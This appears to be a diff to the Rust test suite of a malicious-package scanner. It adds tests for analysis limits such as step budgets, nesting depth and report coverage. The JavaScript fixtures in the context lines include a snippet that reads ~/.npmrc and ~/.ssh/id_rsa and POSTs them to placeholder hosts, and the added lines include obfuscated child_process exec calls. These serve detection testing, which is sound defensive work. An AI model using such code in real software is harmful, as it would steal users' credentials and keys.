@@ -50,7 +50,22 @@ fn cases() -> Vec<Case> {
         const send = (at, data) => https.request(at, { method: 'POST' }).end(data);\n\
         send('https://a.invalid/', fs.readFileSync(process.env.HOME + '/.npmrc'));\n\
         send('https://b.invalid/', fs.readFileSync(process.env.HOME + '/.ssh/id_rsa'));\n";
+    // Each piece of code is found inside a value.
+    let layers =
+        ["a", "b", "c"].map(|name| format!("c.execFile('node', ['-e', 'require(\"{name}\")']);\n"));
+    let layers = format!("const c = require('child_process');\n{}", layers.concat());
+    let one_of = "let name = 'w';\nif (process.argv[2]) name = 'x';\nif (process.argv[3]) name = 'y';\n\
+        require('child_process').exec(name);\n";
+    // Each pair is one file where case does not count.
+    let odd: Vec<File> = ["a.js", "A.js", "b.js", "B.js", "c.js", "C.js"]
+        .map(|path| (path.to_owned(), b"exports.a = 1;\n".to_vec()))
+        .into_iter()
+        .chain(files("exports.a = 1;\n"))
+        .collect();
     vec![
+        case("layers", 3, of(&layers), "budget-exhausted"),
+        case("value-set", 3, of(one_of), "unresolved-value"),
+        case("notes", 3, tgz(&odd), "report-limit"),
         case("compressed-bytes", plain.len(), plain.clone(), "over-limit"),
         case(
             "unpacked-bytes",
@@ -117,6 +132,18 @@ fn what_fits_is_whole_and_one_over_is_named() {
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
+/// A limit that is new has to be tried too.
+#[test]
+fn every_limit_is_tried() {
+    let mut tried: Vec<&str> = cases().iter().map(|case| case.limit).collect();
+    tried.extend(STEPS);
+    tried.push("nesting");
+    tried.sort_unstable();
+    let mut all = Limits::NAMES.to_vec();
+    all.sort_unstable();
+    assert_eq!(tried, all);
+}
+
 /// Below some three thousand levels every stack is large enough and no limit is asked.
 #[test]
 fn nesting_is_counted_to_the_limit() {
@@ -133,12 +160,69 @@ fn nesting_is_counted_to_the_limit() {
     assert_eq!(deep(5_001), "nesting-too-deep");
 }
 
+/// Code that unpacks texts from a table, so many times, and runs the last one.
+fn unpacking(turns: usize) -> String {
+    format!(
+        "const table = ['rv', 'ab', 'xy'];\nlet out = '';\n\
+         for (let turn = 0; turn < {turns}; turn++)\n\
+         out = table[turn % 3].split('').reverse().join('') + turn;\n\
+         require('child_process').exec(out);\n"
+    )
+}
+
+/// A chain of names, each of which is evaluated for the next.
+fn names(count: usize) -> String {
+    let mut text = "const n0 = process.env.A;\n".to_owned();
+    for at in 1..count {
+        text += &format!("const n{at} = n{} + 'x' + n{};\n", at - 1, at - 1);
+    }
+    text + &format!("require('child_process').exec(n{});\n", count - 1)
+}
+
+const STEPS: [&str; 3] = ["file-steps", "run-steps", "package-steps"];
+
+/// Limits on steps: how many something takes is not known before, but there is one number that
+/// is enough, and one less is told.
 #[test]
-fn steps_that_run_out_are_told() {
-    let loops = "let s = '';\nfor (let i = 0; i < 20000; i++) s += String.fromCharCode(97);\n\
-        require('child_process').exec(s);\n";
-    let case = case("file-steps", 0, tgz(&files(loops)), "unresolved-value");
-    assert_eq!(told(&case, 0), "unresolved-value");
+fn steps_are_counted_to_the_limit() {
+    let of = |text: String| tgz(&files(&text));
+    let archives = [of(names(60)), of(unpacking(4_000)), tgz(&chain(8))];
+    for (limit, archive) in STEPS.into_iter().zip(archives) {
+        let case = case(limit, 0, archive, "unresolved-value");
+        let (mut low, mut high) = (0, 1_u64 << 26);
+        assert_eq!(told(&case, low), case.told, "{limit} = 0");
+        assert_eq!(told(&case, high), "", "{limit} = {high}");
+        while high - low > 1 {
+            let middle = low.midpoint(high);
+            match told(&case, middle).is_empty() {
+                true => high = middle,
+                false => low = middle,
+            }
+        }
+        println!("{limit}: {high}");
+        assert_eq!(told(&case, high), "", "{limit} = {high}");
+        assert_eq!(told(&case, high - 1), case.told, "{limit} = {}", high - 1);
+    }
+}
+
+/// The count beside a list tells that it was cut, where the list cannot tell it of itself.
+#[test]
+fn places_that_were_not_analysed_are_counted_to_the_limit() {
+    let broken = (0..4).map(|at| (format!("b{at}.js"), b"exports.a = (;\n".to_vec()));
+    let mut files = files("exports.a = 1;\n");
+    files.extend(broken);
+    let archive = tgz(&files);
+    for (notes, listed, count) in [(4, 4, Value::Null), (3, 3, 4.into())] {
+        let mut limits = Limits::default();
+        limits.notes = notes;
+        let engine = Engine::builder().limits(limits).build().unwrap();
+        let report = engine.scan(&archive).unwrap().to_json();
+        let report: Value = serde_json::from_str(&report).unwrap();
+        let coverage = &report["coverage"];
+        assert_eq!(coverage["unanalysed"].as_array().unwrap().len(), listed);
+        assert_eq!(coverage["unanalysedCount"], count, "notes = {notes}");
+        assert_eq!(coverage["complete"], false, "notes = {notes}");
+    }
 }
 
 /// The least `package-steps` with which a package of so many files is followed to its end.
